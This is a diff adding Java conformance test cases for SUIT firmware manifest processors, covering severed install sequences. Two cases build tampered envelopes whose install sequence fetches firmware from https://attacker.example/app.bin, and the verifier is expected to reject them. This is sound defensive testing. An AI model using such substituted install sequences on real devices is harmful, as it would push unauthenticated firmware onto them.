@@ -1,0 +1,119 @@
+package dev.suitcase.vectors.families;
+
+import dev.suitcase.vectors.generate.BuiltCase;
+import dev.suitcase.vectors.model.Severity;
+import dev.suitcase.vectors.suit.CommandSequence;
+import dev.suitcase.vectors.suit.Envelope;
+import dev.suitcase.vectors.suit.Manifest;
+import dev.suitcase.vectors.suit.SuitLabels.ManifestKey;
+import dev.suitcase.verifier.Reason;
+import dev.suitcase.verifier.suit.Scope;
+
+import static dev.suitcase.vectors.families.SuitFixture.IMAGE_URI;
+import static dev.suitcase.vectors.families.SuitFixture.accepted;
+import static dev.suitcase.vectors.families.SuitFixture.rejected;
+
+/**
+ * Severable members (draft-ietf-suit-manifest-37 §8.4.12, §8.6): the manifest holds the SUIT_Digest of
+ * its install sequence, and the envelope carries the sequence, or not, intact, or not.
+ */
+final class SuitSeverableCases {
+
+    /** The baseline with its install sequence severed: the manifest holds the SHA-256 SUIT_Digest of the bstr. */
+    private static Manifest severed() {
+        return SuitFixture.manifest(SuitFixture.shared())
+                .withSevered(ManifestKey.INSTALL, SuitFixture.installFrom(IMAGE_URI))
+                .withSequence(ManifestKey.VALIDATE, SuitFixture.validate())
+                .withSequence(ManifestKey.INVOKE, SuitFixture.invoke());
+    }
+
+    private static Envelope severedEnvelope(SuitFixture f) {
+        return f.envelope(severed());
+    }
+
+    @SuitCase(area = "severable", name = "install-present",
+            title = "{alg} manifest with its install sequence severed and carried in the envelope",
+            severity = Severity.HIGH,
+            requirements = {"SUITM-8.4-severed-or-inline", "SUITM-8.4.12-severable-digest", "SUITM-8.6-severable-members"},
+            flags = {"Severable"},
+            description = """
+                    A manifest signed with {alg} whose suit-install (20) is a SUIT_Digest: the SHA-256 of the bstr
+                    holding the install sequence, head included. The envelope carries that bstr under key 20. The
+                    install sequence fetches the image from its URI and checks it.
+
+                    A processor must tell the digest from an inline sequence by major type, check the envelope's
+                    member against it, run it, and accept at scope install.""")
+    BuiltCase installPresent(SuitFixture f) {
+        Envelope envelope = severedEnvelope(f).withSeveredMember(ManifestKey.INSTALL, SuitFixture.installFrom(IMAGE_URI));
+        return accepted(f.input(envelope.encode(), SuitFixture.device(), Scope.INSTALL));
+    }
+
+    @SuitCase(area = "severable", name = "install-absent-not-needed",
+            title = "{alg} manifest with its install sequence severed and absent, processed to applicability",
+            severity = Severity.LOW,
+            requirements = {"SUITM-8.6-severable-members", "SUITM-8.4-severed-or-inline"},
+            flags = {"Severable"},
+            description = """
+                    The severed-install manifest signed with {alg}, in an envelope that does not carry the install
+                    sequence, processed up to applicability, which does not need it.
+
+                    An absent severed member is no error until a sequence that is run needs it: a processor must
+                    accept. Refusing defeats severing, whose purpose is to deliver less to devices that do not
+                    need everything.""")
+    BuiltCase installAbsentNotNeeded(SuitFixture f) {
+        return accepted(f.input(severedEnvelope(f).encode(), SuitFixture.device(), Scope.APPLICABILITY));
+    }
+
+    @SuitCase(area = "severable", name = "install-absent-needed",
+            title = "{alg} manifest with its install sequence severed and absent, processed to install",
+            severity = Severity.MEDIUM,
+            requirements = {"SUITM-8.6-severable-members", "SUITM-6.3-error-or-correct-state"},
+            flags = {"Severable"},
+            description = """
+                    The severed-install manifest signed with {alg}, in an envelope without the install sequence,
+                    processed up to installation, which needs it.
+
+                    The processor cannot run a sequence it does not have: it must reject. One that treats the
+                    missing sequence as empty reports a successful update that installed nothing, and the device
+                    may then boot a stale or empty component.""")
+    BuiltCase installAbsentNeeded(SuitFixture f) {
+        return rejected(Reason.POLICY, f.input(severedEnvelope(f).encode(), SuitFixture.device(), Scope.INSTALL));
+    }
+
+    @SuitCase(area = "severable", name = "install-changed",
+            title = "{alg} manifest with a severed install sequence replaced in the envelope",
+            severity = Severity.CRITICAL,
+            requirements = {"SUITM-8.4.12-severable-digest", "SUITM-8.6-severable-members", "RFC9124-REQ.SEC.AUTH.REMOTE_LOC"},
+            flags = {"Severable", "ModifiedManifest"},
+            description = """
+                    The severed-install manifest signed with {alg}; the envelope carries under key 20 an install
+                    sequence that fetches https://attacker.example/app.bin instead of the signed one. Severed
+                    members are outside the signature: only their digest in the manifest protects them.
+
+                    A processor must check the member against the digest and reject with a digest mismatch. One
+                    that runs severed members unchecked runs an install sequence anyone can write.""")
+    BuiltCase installChanged(SuitFixture f) {
+        CommandSequence attackers = SuitFixture.installFrom("https://attacker.example/app.bin");
+        Envelope envelope = severedEnvelope(f).withSeveredMember(ManifestKey.INSTALL, attackers);
+        return rejected(Reason.DIGEST_MISMATCH, f.input(envelope.encode(), SuitFixture.device(), Scope.INSTALL));
+    }
+
+    @SuitCase(area = "severable", name = "inline-and-in-envelope",
+            title = "{alg} manifest with an inline install sequence and another one in the envelope",
+            severity = Severity.CRITICAL,
+            requirements = {"SUITM-8.4-severed-or-inline", "SUITM-8.4.12-severable-digest", "RFC9124-REQ.SEC.AUTHENTIC"},
+            flags = {"Severable", "ModifiedManifest"},
+            description = """
+                    The baseline manifest signed with {alg} holds its install sequence inline; the envelope also
+                    carries an install sequence under key 20, one that fetches https://attacker.example/app.bin.
+                    Nothing in the manifest authenticates the envelope's copy.
+
+                    A processor must not run the envelope's member, and must refuse an envelope that carries a
+                    member the manifest did not sever. One that prefers the envelope's copy runs an unsigned
+                    sequence.""")
+    BuiltCase inlineAndInEnvelope(SuitFixture f) {
+        Envelope envelope = f.envelope(SuitFixture.baseline())
+                .withSeveredMember(ManifestKey.INSTALL, SuitFixture.installFrom("https://attacker.example/app.bin"));
+        return rejected(Reason.BAD_STRUCTURE, f.input(envelope.encode(), SuitFixture.device(), Scope.INSTALL));
+    }
+}
